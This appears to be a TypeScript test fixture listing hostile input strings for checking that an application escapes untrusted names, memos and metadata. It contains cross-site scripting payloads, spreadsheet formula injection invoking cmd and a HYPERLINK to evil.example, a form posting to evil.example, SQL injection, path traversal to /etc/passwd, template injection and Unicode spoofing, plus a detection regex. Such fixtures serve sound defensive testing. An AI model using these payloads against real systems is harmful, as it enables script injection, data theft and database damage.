// What strangers write into names, memos, metadata and events. What it would do, were it more than text, shows: an
// element named x-hostile, an attribute data-hostile, `window.hostile`, or a dialog.

const RUN = "window.hostile=1;alert(1)";

export const HOSTILE_STRINGS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</title></textarea></script><x-hostile>breakout</x-hostile>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `"><x-hostile>attribute</x-hostile>`,
  `' onmouseover='${RUN}' data-hostile='1`,
  `" autofocus onfocus="${RUN}" data-hostile="1`,
  "`onclick=alert(1) data-hostile=1`",
  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `javascript:${RUN}//`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<base href="https://evil.example/">`,
  `<style>*{display:none}</style>`,
  `<!-- comment --><![CDATA[<x-hostile>]]>`,
  `&lt;x-hostile&gt; &amp;amp; &#x3C;b&#x3E;`,
  `<form action="https://evil.example"><input name=key>`,
  "{{constructor.constructor('alert(1)')()}}",
  `\${7*7} #{7*7} <%= 7*7 %> {% raw %}`,
  '=HYPERLINK("https://evil.example","open")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd",
  "-2+3+cmd|' /C calc'!A0",
  "Robert'); DROP TABLE invoices;--",
  "' OR '1'='1",
  "\u202Egnp.exe\u202C reversed \u2066isolated",
  "zero\u200Bwidth\u200Djoiner\uFEFFmark\u00ADhyphen",
  `Z${"\u0300\u0301\u0302\u0303\u0304\u0308\u0323".repeat(6)}algo`,
  "👩‍👩‍👧‍👦🏴‍☠️🇩🇪👍🏽 emoji",
  "مرحبا بالعالم and שלום עולם",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "true",
  "0",
  "-1e309",
  "line one\nline two\r\n\tline three",
  "../../../etc/passwd%00%2e%2e%2f",
  "?next=//evil.example&status=paid#x",
  "\\\\server\\share\\' \" ` \\u003cx-hostile\\u003e",
  "__proto__",
  "%s%n%x {0} %(name)s",
  "ｆｕｌｌｗｉｄｔｈ＜script＞",
  "W".repeat(60),
  "Donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauer1",
];

/** Short enough for most places, and markup. */
export const MARKUP = `"><x-hostile>&'`;

/** An address, and all the rest of it a stranger's. */
export const HOSTILE_URL = `https://evil.example/${encodeURIComponent(MARKUP)}/"onload=alert(1)?x=${MARKUP}#${MARKUP}`;

/** All of them in one. */
export const ALL = HOSTILE_STRINGS.join(" ");

/** Whether a text of strangers is in it, as such or in the query of an address. */
export function isHostile(text: string): boolean {
  return /(?:<|%3C)[a-z!/]|^javascript:/i.test(text);
}

/** Where a text may be as long as it likes. */
export const LONG_WORD = "Rindfleischetikettierungs".repeat(400);

/** At most so many characters of it, as a person counts them. */
export function cut(text: string, most: number): string {
  return [...text].slice(0, most).join("");
}
